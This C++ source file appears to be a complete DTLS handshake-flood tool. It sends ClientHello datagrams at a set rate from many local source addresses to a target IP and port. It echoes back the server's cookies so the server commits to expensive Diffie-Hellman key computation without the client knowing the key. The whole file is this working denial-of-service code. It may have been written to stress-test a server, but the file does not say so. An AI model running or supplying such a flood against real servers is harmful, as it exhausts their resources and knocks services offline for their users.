// drovik_flood TARGET PORT FIRST COUNT RATE SECONDS: begins handshakes without knowing the key,
// with RATE datagrams a second in total, from COUNT own addresses that begin with FIRST. Where the
// server answers a first datagram with its cookie, the second one returns it, which makes the
// server compute.
#include <arpa/inet.h>
#include <array>
#include <chrono>
#include <cstdlib>
#include <cstring>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <thread>

#include "base/handle.h"

namespace {

void number(std::string& out, unsigned long value, int bytes) {
  for (int shift = 8 * (bytes - 1); shift >= 0; shift -= 8)
    out += static_cast<char>(value >> shift & 0xff);
}

std::string client_hello(const std::string& cookie) {
  std::string body;
  number(body, 0xfefd, 2);  // DTLS 1.2
  body.append(32, 'r');     // random
  number(body, 0, 1);       // no session
  number(body, cookie.size(), 1);
  body += cookie;
  number(body, 2, 2);
  number(body, 0x00aa, 2);  // the server's cipher: its part costs a key of Diffie and Hellman
  number(body, 0x0100, 2);  // no compression
  const unsigned long sequence = cookie.empty() ? 0 : 1;
  std::string handshake;
  number(handshake, 1, 1);
  number(handshake, body.size(), 3);
  number(handshake, sequence, 2);
  number(handshake, 0, 3);
  number(handshake, body.size(), 3);
  handshake += body;
  std::string record;
  number(record, 22, 1);
  number(record, 0xfefd, 2);
  number(record, 0, 4);
  number(record, sequence, 4);
  number(record, handshake.size(), 2);
  return record + handshake;
}

sockaddr_in at(in_addr address, int port) {
  sockaddr_in place{};
  place.sin_family = AF_INET;
  place.sin_addr = address;
  place.sin_port = htons(static_cast<std::uint16_t>(port));
  return place;
}

fenro::Fd connect_from(in_addr own, const sockaddr_in& to) {
  const sockaddr_in from = at(own, 0);
  fenro::Fd made{socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)};
  if (bind(made.get(), reinterpret_cast<const sockaddr*>(&from), sizeof from) != 0 ||
      connect(made.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0)
    std::exit(1);
  return made;
}

int whole_number(const char* text) {
  return static_cast<int>(std::strtol(text, nullptr, 10));
}

// The cookie of the answer that has come; empty when none has.
std::string take_cookie(int from) {
  constexpr std::size_t COOKIE =
      28;  // behind the headers of record and handshake, the version and its own length
  char answer[512];
  const ssize_t length = recv(from, answer, sizeof answer, 0);
  if (length <= static_cast<ssize_t>(COOKIE)) return {};
  return {answer + COOKIE, static_cast<std::size_t>(length) - COOKIE};
}

}  // namespace

int main(int argc, char** argv) {
  in_addr target{}, first{};
  if (argc != 7 || inet_pton(AF_INET, argv[1], &target) != 1 ||
      inet_pton(AF_INET, argv[3], &first) != 1)
    return 2;
  const int count = whole_number(argv[4]), rate = whole_number(argv[5]),
            seconds = whole_number(argv[6]);
  const sockaddr_in to = at(target, whole_number(argv[2]));
  std::array<fenro::Fd, 256> peers;  // each has its turn again when the answer should be there
  const auto begin = std::chrono::steady_clock::now();
  for (int sent = 0; sent < rate * seconds; ++sent) {
    std::this_thread::sleep_until(begin + std::chrono::microseconds(1000000L / rate * sent));
    const std::size_t turn = static_cast<std::size_t>(sent) % peers.size();
    fenro::Fd peer = std::move(peers[turn]);
    const std::string cookie = peer ? take_cookie(peer.get()) : std::string{};
    if (cookie.empty())
      peer =
          connect_from({htonl(ntohl(first.s_addr) + static_cast<std::uint32_t>(sent % count))}, to);
    const std::string hello = client_hello(cookie);
    send(peer.get(), hello.data(), hello.size(), 0);
    if (cookie.empty()) peers[turn] = std::move(peer);
  }
}
